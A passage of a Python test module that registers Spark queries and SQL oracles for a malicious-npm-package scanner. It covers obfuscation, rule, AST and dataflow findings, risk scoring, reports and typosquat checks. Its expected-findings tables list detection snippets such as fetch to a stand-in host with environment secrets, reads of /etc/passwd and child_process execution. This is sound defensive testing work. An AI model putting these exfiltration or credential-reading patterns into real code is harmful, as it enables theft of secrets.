"""The registered queries over package tables, each with the SQL that it must equal."""

from __future__ import annotations

import uuid
from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from siltstone import schema
from siltstone.functions import names, storage, text
from siltstone.operators import binary, code, flow, metadata, patterns, structure, versions
from siltstone.plans import fixtures as fx
from siltstone.plans import cache, report
from siltstone.sources import archives
from siltstone.sources import packages as sources
from siltstone.streaming import feed, history

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}
ORACLES: dict[str, str] = {}


def query(name: str, sql: str | None = None) -> Callable[[Query], Query]:
    def add(f: Query) -> Query:
        QUERIES[name] = f
        if sql is not None:
            ORACLES[name] = sql
        return f

    return add


def read(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{table}.parquet")


def shown(found: DataFrame) -> DataFrame:
    return found.select("package", "version", "severity", "category", "title", "file", "line", "snippet")


q = fx.quote

# --- code lines ----------------------------------------------------------------------------------


@query("line_split", f"WITH {fx.FILES_SQL} SELECT package, path, count(*) AS n_lines, max(line) AS last_line, sum(length(raw))::BIGINT AS n_chars FROM lines GROUP BY package, path")
def _line_split(spark, sf):
    lines = code.to_lines(fx.files(spark, sf))
    return lines.groupBy("package", "path").agg(F.count("*").alias("n_lines"), F.max("line").alias("last_line"), F.sum(F.length("raw")).alias("n_chars"))


@query(
    "path_filters",
    rf"""WITH {fx.FILES_SQL} SELECT path, regexp_matches(lower(path), '(^|/)(dist|bundle|build|umd|cjs|esm)/') AS built, contains(regexp_extract(path, '[^/]*$'), '.min.') AS minified,
    CASE WHEN regexp_matches(path, '\.(js|cjs|mjs)$') THEN 'js' WHEN regexp_matches(path, '\.ts$') THEN 'ts' WHEN regexp_matches(path, '\.tsx$') THEN 'tsx' END AS grammar, octet_length(encode(content)) <= 1048576 AS small FROM files""",
)
def _path_filters(spark, sf):
    ext = text.extension(F.col("path"))
    grammar = F.when(ext.isin("js", "cjs", "mjs"), "js").when(ext == "ts", "ts").when(ext == "tsx", "tsx")
    return fx.files(spark, sf).select("path", text.built(F.col("path")).alias("built"), text.minified(F.col("path")).alias("minified"), grammar.alias("grammar"), (F.octet_length("content") <= 1_048_576).alias("small"))


def _expected_sql(severity: str, category: str) -> str:
    out = []
    for of, level, parts, exact in patterns.EXPECTED:
        if of == category and level in (None, severity):
            out += [f"contains({'path' if exact else 'lower(path)'}, {q(p)})" for p in parts]
    return f"NOT ({' OR '.join(out)})" if out else "true"


_CODE_SQL = r"regexp_replace(regexp_replace(raw, '/\*.*?\*/', '', 'g'), '(^|[^:])//.*$', '\1')"
STATIC_SQL = f"""stripped AS (SELECT *, {_CODE_SQL} AS code FROM lines WHERE {fx.extension_sql("js|cjs|mjs|ts|tsx|jsx")} AND {fx.SCRIPT_SQL}),
static_found AS ({" UNION ALL ".join(f"SELECT package, version, path, doc_id, line, raw, {i} AS i, {q(s)} AS severity, {q(c)} AS category, {q(t)} AS title FROM stripped WHERE trim(code) <> '' AND NOT regexp_matches(code, '^\\s*(//|#)') AND regexp_matches(code, {q(p)}) AND {_expected_sql(s, c)}" for i, (s, c, p, t) in enumerate(patterns.STATIC))})"""


@query("static_code", f"WITH {fx.FILES_SQL}, {STATIC_SQL} SELECT package, version, severity, category, title, path AS file, line::INT AS line, {fx.cut_sql('raw', 100)} AS snippet FROM static_found")
def _static_code(spark, sf):
    return shown(code.static_code(fx.files(spark, sf)))


# What is left of each piece's lines, written out: piece, line after its first, code.
_CODE_KNOWN = [
    (0, 0, 'var u = "http://a.example/*b"; '),
    (1, 0, "a "),
    (1, 1, " b "),
    (1, 2, "d"),
    (2, 0, "var s = '/* kept */' + \"// kept\";  t();"),
    (3, 0, "`kept // kept`  + y"),
    (4, 0, 'var q = "it\\"s // kept" '),
    (5, 0, "'open // kept"),
    (5, 1, "next "),
    (6, 0, "x  / y "),
]


@query(
    "code_comments",
    f"""WITH known(k, line, code) AS (VALUES {", ".join(f"({k}, {line}, {q(v)})" for k, line, v in _CODE_KNOWN)})
    SELECT source AS package, {fx.PATH} AS path, (length(coalesce(text, '')) - length(replace(coalesce(text, ''), chr(10), '')) + 2 + line)::INT AS line, code FROM documents JOIN known ON doc_id % {len(fx.COMMENTS)} = k""",
)
def _code_comments(spark, sf):
    return code.to_lines(fx.commented(spark, sf), strip=True).where("code != ''").select("package", "path", "line", "code")


@query("static_counts", f"WITH {fx.FILES_SQL}, {STATIC_SQL} SELECT title, severity, count(*) AS n, count(DISTINCT package) AS n_packages FROM static_found GROUP BY title, severity")
def _static_counts(spark, sf):
    return code.static_code(fx.files(spark, sf)).groupBy("title", "severity").agg(F.count("*").alias("n"), F.countDistinct("package").alias("n_packages"))


_ENTROPY_SQL = "(SELECT -sum(n / total * log2(n / total)) FROM (SELECT count(*)::DOUBLE AS n, sum(count(*)) OVER () AS total FROM (SELECT unnest(generate_series(1, octet_length(encode(raw)))) AS k) GROUP BY substr(hex(encode(raw)), (2 * k - 1)::INT, 2)))"
_OBF_LINES = f"SELECT *, octet_length(encode(raw)) AS size, CASE WHEN octet_length(encode(raw)) > 100 THEN {_ENTROPY_SQL} END AS entropy FROM lines WHERE {fx.extension_sql('js|cjs|mjs|ts|tsx|jsx|json')} AND {fx.SCRIPT_SQL}"
_OBF = [
    ("Critical", "Long hex string detected", f"regexp_matches(raw, {q(patterns.LONG_HEX)})"),
    ("High", "Long base64 string detected", f"regexp_matches(raw, {q(patterns.LONG_BASE64)}) AND NOT starts_with(trim(raw), '\"integrity\"') AND NOT starts_with(trim(raw), '\"sha')"),
    ("High", "High entropy line", "entropy > 5.5"),
    ("Medium", "Excessive string escaping", f"regexp_matches(raw, {q(patterns.ESCAPES)})"),
    ("Low", "Minified code in non-minified file", "size > 500"),
]
OBF_SQL = f"obf_lines AS ({_OBF_LINES}), obf_found AS ({' UNION ALL '.join(f'SELECT package, version, path, doc_id, line, raw, {i} AS i, {q(s)} AS severity, {q("Obfuscation")} AS category, {q(t)} AS title FROM obf_lines WHERE {w}' for i, (s, t, w) in enumerate(_OBF))})"


@query("obfuscation", f"WITH {fx.FILES_SQL}, {OBF_SQL} SELECT package, version, severity, category, title, path AS file, line::INT AS line, {fx.cut_sql('raw', 100)} AS snippet FROM obf_found")
def _obfuscation(spark, sf):
    return shown(code.obfuscation(fx.files(spark, sf)))


@query("line_entropy", f"WITH {fx.FILES_SQL} SELECT path, line::INT AS line, round({_ENTROPY_SQL}, 6) AS entropy FROM lines WHERE octet_length(encode(raw)) > 100")
def _line_entropy(spark, sf):
    lines = code.to_lines(fx.files(spark, sf)).where(F.octet_length("raw") > 100)
    return lines.select("path", "line", F.round(text.byte_entropy("raw"), 6).alias("entropy"))


def _rule_sql(rule: tuple) -> str:
    id_, name, severity, category, pattern, glob, excludes = rule
    base = "regexp_extract(path, '[^/]*$')"
    out = [f"contains(lower(path), {q(e.lower())}) OR regexp_matches({base}, {q(text.glob_pattern(e))}) OR regexp_matches(path, {q(text.glob_pattern(e))})" for e in excludes]
    use = f"NOT ({' OR '.join(out)})" + (f" AND regexp_matches({base}, {q(text.glob_pattern(glob))})" if glob else "")
    return f"SELECT package, version, path, doc_id, line, raw, {q(patterns.RULE_SEVERITY[severity])} AS severity, {q(patterns.RULE_CATEGORY.get(category, 'Suspicious'))} AS category, {q(f'[{id_}] {name}')} AS title FROM lines WHERE {use} AND regexp_matches(raw, {q(pattern)})"


RULES_SQL = f"rule_found AS ({' UNION ALL '.join(map(_rule_sql, patterns.RULES))})"


@query("rules", f"WITH {fx.FILES_SQL}, {RULES_SQL} SELECT package, version, severity, category, title, path AS file, line::INT AS line, {fx.cut_sql('raw', 120)} AS snippet FROM rule_found")
def _rules(spark, sf):
    return shown(code.rule_matches(fx.files(spark, sf)))


# A rule for each benchmark passage, of its first five words, and two of our own, one without a literal.
_WORDS = r"'^[^A-Za-z]*([A-Za-z]+)[^A-Za-z]+([A-Za-z]+)[^A-Za-z]+([A-Za-z]+)[^A-Za-z]+([A-Za-z]+)[^A-Za-z]+([A-Za-z]+)'"
_RULE_TABLE = "id string, name string, severity string, category string, pattern string, file_regex string, exclude_paths array<string>"
_OWN_RULES = [("OWN-1", "Evaluates", "High", "CodeExecution", r"eval\(", r"\.js$", ["test/"]), ("OWN-2", "Environment", "Low", "EnvAccess", r"process\.env", None, None), ("OWN-3", "Call or socket", "Medium", "NetworkAccess", r"\bnew\s+Web|fs\.|net\.", None, None)]


@query(
    "rule_join",
    rf"""WITH {fx.FILES_SQL}, words AS (SELECT item_id, [{", ".join(f"regexp_extract(text, {_WORDS}, {i})" for i in range(1, 6))}] AS w FROM benchmark),
    rules AS (SELECT 'B-' || item_id AS id, 'Passage' AS name, 'Info' AS severity, 'Suspicious' AS category, array_to_string(w, '[^A-Za-z]+') AS pattern FROM words WHERE w[5] <> ''
    UNION ALL VALUES ('OWN-1', 'Evaluates', 'High', 'CodeExecution', 'eval\('), ('OWN-2', 'Environment', 'Low', 'EnvAccess', 'process\.env'), ('OWN-3', 'Call or socket', 'Medium', 'NetworkAccess', '\bnew\s+Web|fs\.|net\.'))
    SELECT package, version, severity, category, '[' || id || '] ' || name AS title, path AS file, line::INT AS line, {fx.cut_sql("raw", 120)} AS snippet FROM lines JOIN rules ON regexp_matches(raw, pattern)
    WHERE id <> 'OWN-1' OR (regexp_matches(regexp_extract(path, '[^/]*$'), '\.js$') AND NOT contains(lower(path), 'test/'))""",
)
def _rule_join(spark, sf):
    words = F.array(*(F.regexp_extract("text", _WORDS.strip("'"), i) for i in range(1, 6)))
    passages = read(spark, sf, "benchmark").withColumn("w", words).where(F.get("w", F.lit(4)) != "")
    of_passages = passages.select(F.concat(F.lit("B-"), F.col("item_id").cast("string")).alias("id"), F.lit("Passage").alias("name"), F.lit("Info").alias("severity"), F.lit("Suspicious").alias("category"), F.array_join("w", "[^A-Za-z]+").alias("pattern"), F.lit(None).cast("string").alias("file_regex"), F.lit(None).cast("array<string>").alias("exclude_paths"))
    return shown(code.rule_joins(fx.files(spark, sf), of_passages.unionByName(spark.createDataFrame(_OWN_RULES, _RULE_TABLE))))


# What each piece of code is known to hold, written out: piece, whether it is inside a function (null: either
# way), severity, category, title, line after the piece's first, what is shown.
_SYNTAX_KNOWN = [
    (0, None, "Critical", "CodeExecution", "Dynamic eval() detected (AST-verified)", 0, "eval(\n  input\n)"),
    (1, None, "Critical", "CodeExecution", "new Function() with dynamic arguments (AST-verified)", 0, "new Function(\n  'a', body)"),
    (2, None, "Critical", "ProcessSpawn", "child_process.exec() call chain (AST-verified)", 0, "require('child_process')\n  .exec(cmd)"),
    (3, None, "Critical", "ProcessSpawn", "Dynamic import('child_process') (AST-verified)", 0, "import(\n  'child_process'\n)"),
    (4, None, "High", "FileSystemAccess", "Read of sensitive file path (AST-verified)", 0, "fs.readFileSync(\n  '/etc/passwd', 'utf8')"),
    (5, True, "High", "EnvAccess", "process.env access with network call in same scope (AST-verified)", 0, "process.env"),
    (6, None, "High", "NetworkAccess", "Base64 encode then exfiltrate pattern (AST-verified)", 0, "Buffer.from(data)\n  .toString('base64')"),
    (7, None, "High", "Obfuscation", "Deeply nested function calls (6 levels, AST-verified)", 0, "f()()()()()()(1)"),
    (8, None, "High", "Obfuscation", "Computed array index used as function call (AST-verified)", 0, "table[0x1f](x)"),
    (8, None, "High", "Obfuscation", "Computed array index used as function call (AST-verified)", 1, "table[i + 1](y)"),
    (9, None, "High", "Obfuscation", "Single-char string concatenation (4 chars, AST-verified)", 0, "'e' + 'v' +\n  'a' + 'l'"),
    (10, None, "Medium", "Suspicious", "process.binding() call (AST-verified)", 0, "process.binding('fs')"),
    (10, None, "Medium", "CodeExecution", "VM code execution API (AST-verified)", 1, "vm.runInThisContext(code)"),
    (11, None, "Medium", "Suspicious", "Reflect used to intercept module loading (AST-verified)", 0, "Reflect.apply(require, null, [name])"),
    (15, True, "High", "EnvAccess", "process.env access with network call in same scope (AST-verified)", 0, "process.env"),
    (16, True, "High", "EnvAccess", "process.env access with network call in same scope (AST-verified)", 1, "process.env"),
    (18, None, "Critical", "CodeExecution", "Dynamic eval() detected (AST-verified)", 3, "eval(three)"),
    (19, True, "High", "EnvAccess", "process.env access with network call in same scope (AST-verified)", 0, "process.env"),
    (22, True, "High", "EnvAccess", "process.env access with network call in same scope (AST-verified)", 0, "process.env"),
]
# The same for flows, and how often each is found outside a function; inside one it is twice as often.
_FLOW_KNOWN = [
    (5, 1, "Critical", "Data exfiltration: process.env sent over network", 1, "fetch('http://x.example/' + key)"),
    (13, 1, "High", "Dropper: network data written to file", 1, "fs.writeFileSync(\n  target,\n  body)"),
    (13, 1, "Critical", "Tainted data passed to child_process execution", 4, "execSync(target + body)"),
    (14, 1, "Critical", "Credential theft: sensitive file sent over network", 2, "http.request(sent)"),
    (15, 1, "Critical", "Data exfiltration: process.env sent over network", 3, "fetch(secret)"),
    (16, 2, "Critical", "Data exfiltration: process.env sent over network", 2, "axios.post(api, pick)"),
    (17, 1, "Critical", "Credential theft: sensitive file sent over network", 2, "request(creds)"),
    (17, 1, "High", "Credential data used near network context", 2, "request(creds);"),
    (18, 1, "Critical", "Tainted data passed to eval/Function", 3, "eval(three)"),
    (19, 1, "Critical", "Data exfiltration: tainted data in network URL", 1, "axios[host](1)"),
    (20, 1, "High", "Tainted data passed to child_process execution", 1, "spawn('ls', home)"),
    (22, 1, "Critical", "Data exfiltration: process.env sent over network", 1, "fetch(e)"),
]


def _value_sql(v: object) -> str:
    return "NULL" if v is None else str(v) if isinstance(v, bool | int) else q(v)


def _known_sql(rows: list[tuple]) -> str:
    return ", ".join(f"({', '.join(map(_value_sql, r))})" for r in rows)


_FIRST_LINE = f"length(coalesce(text, '')) - length(replace(coalesce(text, ''), chr(10), '')) + 2 + CASE WHEN {fx.WRAPPED} THEN 1 ELSE 0 END"


@query(
    "syntax_checks",
    f"""WITH known(k, inside, severity, category, title, line, snippet) AS (VALUES {_known_sql(_SYNTAX_KNOWN)}),
    d AS (SELECT *, {fx.PATH} AS path, {_FIRST_LINE} AS first_line FROM documents)
    SELECT source AS package, '1.0.0' AS version, severity, category, title, path AS file, (first_line + line)::INT AS line, snippet FROM d JOIN known ON doc_id % {len(fx.CODE)} = k AND coalesce(inside, {fx.WRAPPED}) = {fx.WRAPPED}
    WHERE {fx.extension_sql("js|cjs|mjs|ts|tsx")} AND {fx.SCRIPT_SQL}""",
)
def _syntax(spark, sf):
    return shown(structure.syntax(fx.scripts(spark, sf)))


@query(
    "dataflow",
    f"""WITH known(k, times, severity, title, line, snippet) AS (VALUES {_known_sql(_FLOW_KNOWN)}),
    d AS (SELECT *, {fx.PATH} AS path, {_FIRST_LINE} AS first_line FROM documents),
    found AS (SELECT *, unnest(range(times * CASE WHEN {fx.WRAPPED} THEN 2 ELSE 1 END)) FROM d JOIN known ON doc_id % {len(fx.CODE)} = k WHERE {fx.extension_sql("js|cjs|mjs")} AND {fx.SCRIPT_SQL})
    SELECT source AS package, '1.0.0' AS version, severity, 'DataFlow' AS category, title, path AS file, (first_line + line)::INT AS line, snippet FROM found""",
)
def _dataflow(spark, sf):
    return shown(flow.dataflow(fx.scripts(spark, sf)))


# --- reports -------------------------------------------------------------------------------------
# Each document is a package here, so that scores differ.

_DOC = "concat('pkg-', cast(doc_id as string))"


def _found(spark, sf):
    files = fx.files(spark, sf).withColumn("package", F.expr(_DOC))
    return files.select("package", "version"), code.line_findings(files)


_ALL_SQL = f"""{fx.FILES_SQL}, {STATIC_SQL}, {OBF_SQL}, {RULES_SQL},
all_found AS (SELECT {_DOC} AS package, version, 0 AS a, line * 100 + i AS seq, severity, category, title, path, line, raw FROM static_found
 UNION ALL SELECT {_DOC}, version, 1, line * 10 + i, severity, category, title, path, line, raw FROM obf_found
 UNION ALL SELECT {_DOC}, version, 2, CAST(substr(title, 7, 3) AS BIGINT) * 1000000000 + line, severity, category, title, path, line, raw FROM rule_found),
counts AS (SELECT package, version, count(*) FILTER (severity = 'Critical') AS n_critical, count(*) FILTER (severity = 'High') AS n_high, count(*) FILTER (severity = 'Medium') AS n_medium, count(*) FILTER (severity = 'Low') AS n_low FROM all_found GROUP BY ALL),
scored AS (SELECT f.package, f.version, coalesce(n_critical, 0) AS n_critical, coalesce(n_high, 0) AS n_high, coalesce(n_medium, 0) AS n_medium, coalesce(n_low, 0) AS n_low FROM (SELECT DISTINCT {_DOC} AS package, version FROM files) f LEFT JOIN counts c ON c.package = f.package),
points AS (SELECT *, least(10.0::DOUBLE, list_reduce(list_concat([3.0::DOUBLE * n_critical + 1.5::DOUBLE * n_high + 0.5::DOUBLE * n_medium], list_transform(range(n_low), lambda x: 0.1::DOUBLE)), lambda a, x: a + x)) AS risk_score FROM scored),
reported AS (SELECT *, CASE WHEN risk_score < 1 THEN 'Clean' WHEN risk_score < 3 THEN 'Low' WHEN risk_score < 5 THEN 'Medium' WHEN risk_score < 7 THEN 'High' ELSE 'Critical' END AS risk_label FROM points)"""


@query("risk_scores", f"WITH {_ALL_SQL} SELECT package, version, n_critical, n_high, n_medium, n_low, risk_score, risk_label FROM reported")
def _risk_scores(spark, sf):
    return report.scores(*_found(spark, sf)).drop("n_info")


@query("ignore_rules", f"WITH {_ALL_SQL} SELECT package, severity, category, title, count(*) AS n FROM all_found WHERE NOT (category IN ('EnvAccess') OR contains(lower(title), 'fetch') OR severity = 'Low') GROUP BY ALL")
def _ignore(spark, sf):
    rules = spark.createDataFrame([("env access",), ("Fetch",), ("LOW",)], "rule string")
    return report.ignored(_found(spark, sf)[1], rules).groupBy("package", "severity", "category", "title").agg(F.count("*").alias("n"))


def _map_sql(column: str, pairs: list[tuple]) -> str:
    return f"CASE {column} " + " ".join(f"WHEN {q(a)} THEN {q(b)}" for a, b in pairs) + " END"


_RULE_ID = "'siltstone/' || " + _map_sql("category", [(c, r) for c, _, r in schema.CATEGORIES])
_LEVEL = _map_sql("severity", [(s, level) for s, _, _, level in schema.SEVERITIES])
_RANK = "CASE severity WHEN 'Critical' THEN 4 WHEN 'High' THEN 3 WHEN 'Medium' THEN 2 WHEN 'Low' THEN 1 ELSE 0 END"


@query("sarif_rules", f"WITH {_ALL_SQL}, best AS (SELECT category, max({_RANK}) AS r FROM all_found GROUP BY category) SELECT {_RULE_ID} AS rule_id, {_map_sql('category', [(c, d) for c, d, _ in schema.CATEGORIES])} AS name, CASE WHEN r >= 3 THEN 'error' WHEN r = 2 THEN 'warning' ELSE 'note' END AS level FROM best")
def _sarif_rules(spark, sf):
    return report.sarif_rules(_found(spark, sf)[1])


@query("sarif_results", f"WITH {_ALL_SQL} SELECT package, {_RULE_ID} AS rule_id, {_LEVEL} AS level, path AS uri, line::INT AS start_line FROM all_found")
def _sarif_results(spark, sf):
    return report.sarif_results(_found(spark, sf)[1]).select("package", "rule_id", "level", "uri", "start_line")


@query("risk_buckets", f"WITH {_ALL_SQL} SELECT CASE WHEN risk_label IN ('Low', 'Clean') THEN 'clean' ELSE lower(risk_label) END AS bucket, count(*) AS n FROM reported GROUP BY ALL")
def _buckets(spark, sf):
    return report.buckets(report.scores(*_found(spark, sf)))


@query("exit_code", f"WITH {_ALL_SQL} SELECT coalesce(max(CASE WHEN risk_label IN ('High', 'Critical') THEN 1 ELSE 0 END), 0)::INT AS code FROM reported")
def _exit_code(spark, sf):
    return report.exit_code(report.scores(*_found(spark, sf)))


@query("install_gate", f"WITH {_ALL_SQL} SELECT package, version, risk_label, risk_label NOT IN ('High', 'Critical') AS approved FROM reported")
def _gate(spark, sf):
    return report.gate(report.scores(*_found(spark, sf)))


@query(
    "scan_summary",
    f"""WITH {_ALL_SQL}, top AS (SELECT package, title, row_number() OVER (PARTITION BY package ORDER BY {_RANK} DESC, a, seq) AS k FROM all_found)
    SELECT r.package, r.version, risk_label, risk_score, coalesce((SELECT string_agg(title, ', ' ORDER BY k) FROM top t WHERE t.package = r.package AND k <= 2), 'no details') AS line FROM reported r""",
)
def _summary(spark, sf):
    return report.summary(report.reports(*_found(spark, sf)))


# Documents are read back, so that their fields are compared and not how JSON is spelled.
_PLACED = f"placed AS (SELECT *, row_number() OVER (PARTITION BY package ORDER BY {_RANK} DESC, a, seq) AS k FROM all_found)"


@query(
    "report_json",
    f"""WITH {_ALL_SQL}, {_PLACED}, per AS (SELECT package, count(*) AS n, string_agg(severity || ' ' || category || ' ' || title || ' ' || path || ' ' || cast(line AS VARCHAR), '; ' ORDER BY k) AS found, string_agg({fx.cut_sql("raw", 100)}, '; ' ORDER BY k) FILTER (a < 2) AS snippets FROM placed GROUP BY package)
    SELECT r.package, r.version, risk_score, risk_label, coalesce(n, 0) AS n_findings, coalesce(found, '') AS found, coalesce(snippets, '') AS snippets FROM reported r LEFT JOIN per ON per.package = r.package""",
)
def _json(spark, sf):
    fields = "package_name string, version string, risk_score double, risk_label string, findings array<struct<severity: string, category: string, title: string, description: string, file: string, line: int, snippet: string>>"
    read_ = report.as_json(report.reports(*_found(spark, sf))).select(F.from_json("json", fields).alias("j")).select("j.*")
    shown_ = F.transform("findings", lambda f: F.concat_ws(" ", f["severity"], f["category"], f["title"], f["file"], f["line"].cast("string")))
    cut = F.transform(F.filter("findings", lambda f: ~f["title"].startswith("[")), lambda f: f["snippet"])
    return read_.select(F.col("package_name").alias("package"), "version", "risk_score", "risk_label", F.size("findings").cast("long").alias("n_findings"), F.array_join(shown_, "; ").alias("found"), F.array_join(cut, "; ").alias("snippets"))


_CLEAN_RULES = f"(SELECT package, string_agg(id || '=' || level, ',' ORDER BY id) AS rules FROM (SELECT package, {_RULE_ID} AS id, arg_min({_LEVEL}, k) AS level FROM placed GROUP BY package, category) GROUP BY package)"


@query(
    "report_sarif",
    f"""WITH {_ALL_SQL}, {_PLACED}, per AS (SELECT package, string_agg({_RULE_ID} || ' ' || {_LEVEL} || ' ' || path || ' ' || cast(line AS VARCHAR), '; ' ORDER BY k) AS results FROM placed GROUP BY package)
    SELECT r.package, r.version, 'https://json.schemastore.org/sarif-2.1.0.json' AS schema_uri, '2.1.0' AS sarif_version, coalesce(rules, '') AS rules, coalesce(results, '') AS results FROM reported r LEFT JOIN per ON per.package = r.package LEFT JOIN {_CLEAN_RULES} u ON u.package = r.package""",
)
def _sarif(spark, sf):
    fields = "`$schema` string, version string, runs array<struct<tool: struct<driver: struct<rules: array<struct<id: string, defaultConfiguration: struct<level: string>>>>>, results: array<struct<ruleId: string, level: string, locations: array<struct<physicalLocation: struct<artifactLocation: struct<uri: string>, region: struct<startLine: int>>>>>>>>"
    read_ = report.as_sarif(report.reports(*_found(spark, sf))).select("package", "version", F.from_json("sarif", fields).alias("j"))
    run = F.col("j.runs")[0]
    rules = F.transform(run["tool"]["driver"]["rules"], lambda r: F.concat_ws("=", r["id"], r["defaultConfiguration"]["level"]))
    results = F.transform(run["results"], lambda r: F.concat_ws(" ", r["ruleId"], r["level"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["locations"][0]["physicalLocation"]["region"]["startLine"].cast("string")))
    return read_.select("package", "version", F.col("j.$schema").alias("schema_uri"), F.col("j.version").alias("sarif_version"), F.array_join(rules, ",").alias("rules"), F.array_join(results, "; ").alias("results"))


@query(
    "sarif_run",
    f"""WITH {_ALL_SQL}, {_PLACED}
    SELECT 'result' AS piece, {_RULE_ID} AS rule_id, {_LEVEL} AS level, path AS uri, line::INT AS start_line FROM placed
    UNION ALL SELECT 'rule', {_RULE_ID} AS rule_id, arg_min({_LEVEL}, (package, k)), NULL, NULL FROM placed GROUP BY category""",
)
def _sarif_run(spark, sf):
    path = f"{storage.shared_dir(spark)}/sarif-{uuid.uuid4().hex}"
    report.write_sarif(report.sarif_run(_found(spark, sf)[1]), path)
    pieces = spark.read.text(path)
    result = F.from_json(F.ltrim("value", F.lit(",")), "ruleId string, level string, locations array<struct<physicalLocation: struct<artifactLocation: struct<uri: string>, region: struct<startLine: int>>>>")
    results = pieces.where(F.ltrim("value", F.lit(",")).startswith('{"ruleId"')).select(result.alias("r"))
    place = F.col("r.locations")[0]["physicalLocation"]
    head = F.from_json(F.regexp_extract("value", r'"driver":(.*)\},"results":\[$', 1), "rules array<struct<id: string, shortDescription: struct<text: string>, defaultConfiguration: struct<level: string>>>")
    rules = pieces.where(F.col("value").startswith('{"$schema"')).select(F.explode(head["rules"]).alias("r"))
    return results.select(F.lit("result").alias("piece"), F.col("r.ruleId").alias("rule_id"), "r.level", place["artifactLocation"]["uri"].alias("uri"), place["region"]["startLine"].alias("start_line")).unionByName(
        rules.select(F.lit("rule").alias("piece"), F.col("r.id").alias("rule_id"), F.col("r.defaultConfiguration.level").alias("level"), F.lit(None).cast("string").alias("uri"), F.lit(None).cast("int").alias("start_line"))
    )


@query(
    "report_text",
    f"""WITH {_ALL_SQL}, {_PLACED}, per AS (SELECT package, string_agg(chr(10) || '  [' || upper(severity) || '] ' || {_map_sql("category", [(c, d) for c, d, _ in schema.CATEGORIES])} || ': ' || title || ' (' || path || ':' || cast(line AS VARCHAR) || ')', '' ORDER BY k) AS rows FROM placed GROUP BY package)
    SELECT r.package, r.version, r.package || '@' || r.version || ' ' || upper(risk_label) || coalesce(rows, '') AS text FROM reported r LEFT JOIN per ON per.package = r.package""",
)
def _text(spark, sf):
    return report.terminal(report.reports(*_found(spark, sf)))


# --- the cache, over orders ----------------------------------------------------------------------

_CACHE = "concat('c', cast(o_custkey as string))"


@query(
    "report_cache",
    f"""WITH best AS (SELECT {_CACHE} AS package, cast(o_custkey % 3 as string) AS version, o_orderdate AS saved_at, o_totalprice AS risk_score, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderdate DESC, o_orderkey DESC) AS k FROM orders WHERE o_orderdate >= TIMESTAMP '1998-01-01' - INTERVAL 30 DAY),
    cached AS (SELECT * FROM best WHERE k = 1)
    SELECT concat('c', cast(c_custkey as string)) AS package FROM customer WHERE concat('c', cast(c_custkey as string)) NOT IN (SELECT package FROM cached)""",
)
def _cache(spark, sf):
    now = F.lit("1998-01-01").cast("timestamp")
    saved = read(spark, sf, "orders").select(F.expr(_CACHE).alias("package"), F.expr("cast(o_custkey % 3 as string)").alias("version"), F.col("o_orderdate").cast("timestamp").alias("saved_at"), F.col("o_totalprice").alias("risk_score"))
    cached = report.fresh(saved, now, 30 * 86_400)
    wanted = read(spark, sf, "customer").select(F.expr("concat('c', cast(c_custkey as string))").alias("package"), F.expr("cast(c_custkey % 3 as string)").alias("version"))
    return report.pending(wanted, cached).select("package")


@query(
    "cache_log",
    f"""WITH best AS (SELECT {_CACHE} AS package, cast(o_custkey % 3 as string) AS version, o_totalprice AS risk_score, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderdate DESC, o_totalprice DESC) AS k FROM orders WHERE o_orderdate >= TIMESTAMP '1998-01-01' - INTERVAL 400 DAY)
    SELECT package, version, risk_score FROM best WHERE k = 1""",
)
def _cache_log(spark, sf):
    """Reports saved by year, pruned between, and read back from what the log names."""
    path = f"{storage.shared_dir(spark)}/cache-{uuid.uuid4().hex}"
    orders = read(spark, sf, "orders").select(F.expr(_CACHE).alias("package"), F.expr("cast(o_custkey % 3 as string)").alias("version"), F.col("o_totalprice").alias("risk_score"), F.col("o_orderdate").cast("timestamp").alias("saved_at"))
    late, now = F.year("saved_at") >= 1997, F.lit("1998-01-01").cast("timestamp")
    cache.save(orders.where(~late), path, F.col("saved_at"))
    cache.prune(spark, path, now, 400 * 86_400)
    cache.save(orders.where(late), path, F.col("saved_at"))
    cache.prune(spark, path, now, 400 * 86_400)
    return cache.load(spark, path).select("package", "version", "risk_score")


# --- metadata ------------------------------------------------------------------------------------

_NAMES = ["react", "reakt", "raect", "lodas", "1odash", "ex-press", "@evil/lodash", "vuex", "pug", "axois", "axio", "expresss", "react-router", "eslint-plugin-react", "lodahs", "lodash", "@types/react", "api-helper", "my-json-utils", "chalk-cli", "m0ment", "momemt", "zod", "zed", "cors", "core", "socketio", "body_parser", "dayls", "totally-different", "nextt", "sharq", "Express", "pinno", "lnoex", "knex2", "uuid4", "debvg", "jest-mock", "gl0b"]
_PKG = fx.pick(_NAMES, "p_partkey")
_TOPS = "[" + ", ".join(map(q, patterns.TOP_PACKAGES)) + "]"
_LOOK = "[" + ", ".join(q(x) for p in names.LOOKALIKES for x in (p, p[::-1])) + "]"


def _parts(spark, sf):
    return read(spark, sf, "part").select(F.expr(_PKG).alias("package"), F.expr("cast(p_partkey as string)").alias("version"), "p_partkey", "p_retailprice", "p_size", "p_name")


_SIMILAR_SQL = f"""parts AS (SELECT {_PKG} AS package, cast(p_partkey as string) AS version, p_partkey, p_retailprice, p_size, p_name FROM part),
tops AS (SELECT unnest({_TOPS}) AS top, unnest(range({len(patterns.TOP_PACKAGES)})) AS pos),
kinds AS (SELECT DISTINCT package FROM parts WHERE package NOT IN ({", ".join(map(q, patterns.LEGITIMATE))}) AND package NOT IN ({", ".join(map(q, patterns.TOP_PACKAGES))})),
pairs AS (SELECT package, top, pos, levenshtein(package, top) AS distance, list_filter(list_transform(range(1, length(package) + 1), lambda i: lower(package[i]) || lower(top[i])), lambda x: x[1] <> x[2]) AS differ FROM kinds, tops
  WHERE NOT (starts_with(package, top || '-') OR starts_with(package, top || '.') OR (contains(package, '-' || top) AND length(package) > length(top) + 5))),
judged AS (SELECT *, CASE WHEN length(package) = length(top) AND len(list_filter(range(1, length(package) + 1), lambda i: package[i] <> top[i])) <= 2 AND len(list_filter(differ, lambda x: list_contains({_LOOK}, x))) > 0 THEN 'homoglyph substitution (looks like ''' || top || ''')'
  WHEN replace(package, '-', '') = replace(top, '-', '') AND package <> top THEN 'hyphen manipulation of ''' || top || ''''
